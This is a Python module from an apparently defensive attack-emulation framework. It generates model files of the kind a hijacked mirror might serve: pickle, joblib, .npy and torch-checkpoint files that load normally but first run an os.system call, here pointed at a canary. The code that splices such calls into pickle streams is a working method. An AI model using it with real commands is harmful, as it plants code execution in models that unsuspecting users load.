"""A source of models that was taken over: the files are the real ones, still work, and carry a call besides.

Whoever pulls the model again gets it again, so that what was cleaned away comes back.
"""

import io
import pickle
import struct
import zipfile
import zlib
from dataclasses import dataclass
from pathlib import Path
from typing import ClassVar

import numpy as np
from numpy.typing import NDArray

from caponier.emulate.attacker.pickle_stream import called, named, text
from caponier.emulate.file_emulation import command, write_all
from caponier.matrix.technique import TechniqueId


@dataclass(frozen=True)
class CompromisedSourceAttack:
    """Writes what a spoiled mirror serves: working models, each with a call that comes before everything else."""

    name: ClassVar[str] = "compromised_source_attack"
    description: ClassVar[str] = (
        "working models of a mirror that was taken over, each with a call of os.system in front"
    )
    techniques: ClassVar[tuple[TechniqueId, ...]] = (
        TechniqueId("atlas", "AML.T0010.003"),
        TechniqueId("amltm-2020", "AMLTM.EXEC.01.01"),
        TechniqueId("amltm-2020", "AMLTM.PERSIST.01.01"),
    )
    harmful: ClassVar[bool] = True

    def write(self, folder: Path, canary: Path) -> list[Path]:
        """Write the files; see `caponier.emulate.file_emulation.FileEmulation.write`."""
        order = command(canary)
        weights = np.linspace(-1.0, 1.0, 12, dtype=np.float32).reshape(3, 4)
        model = {"weights": weights, "classes": ["0", "1", "2"]}
        objects = io.BytesIO()
        np.save(objects, np.array([weights.tolist(), None], dtype=object), allow_pickle=True)
        # Behind the header of the array, whose length stands in two bytes.
        array = objects.getvalue()
        start = 10 + struct.unpack("<H", array[8:10])[0]
        contents = {
            "model.pkl": _spoiled(pickle.dumps(model, protocol=4), order),
            "model-v1.pkl": _spoiled(pickle.dumps(model, protocol=2), order),
            "model.joblib": zlib.compress(_spoiled(pickle.dumps(model, protocol=3), order)),
            "weights.npy": array[:start] + _spoiled(array[start:], order),
            "checkpoint.pt": _checkpoint(weights, order),
        }
        return write_all(folder, contents)


def _spoiled(genuine: bytes, order: str) -> bytes:
    """Return a pickle that makes the call first, forgets what it gave, and then makes the genuine object."""
    head = 2 if genuine[:1] == pickle.PROTO else 0
    return genuine[:head] + called(named("os", "system"), text(order)) + pickle.POP + genuine[head:]


def _checkpoint(weights: NDArray[np.float32], order: str) -> bytes:
    """Return a checkpoint of torch with one tensor, put together without torch."""
    rows, columns = weights.shape
    key = (text("storage"), named("torch", "FloatStorage"), text("0"), text("cpu"), _number(weights.size))
    storage = pickle.MARK + b"".join(key) + pickle.TUPLE + pickle.BINPERSID
    shape, steps = (pickle.MARK + _number(a) + _number(b) + pickle.TUPLE for a, b in ((rows, columns), (columns, 1)))
    hooks = called(named("collections", "OrderedDict"))
    tensor = called(
        named("torch._utils", "_rebuild_tensor_v2"), storage, _number(0), shape, steps, pickle.NEWFALSE, hooks
    )
    genuine = b"\x80\x02" + pickle.EMPTY_DICT + text("layer.weight") + tensor + pickle.SETITEM + pickle.STOP
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        # With dates of their own, so that the same files have the same digests tomorrow.
        archive.writestr(zipfile.ZipInfo("archive/data.pkl"), _spoiled(genuine, order))
        archive.writestr(zipfile.ZipInfo("archive/data/0"), weights.tobytes())
        archive.writestr(zipfile.ZipInfo("archive/version"), b"3\n")
    return stream.getvalue()


def _number(value: int) -> bytes:
    return pickle.BININT + struct.pack("<i", value)


EMULATION = CompromisedSourceAttack()
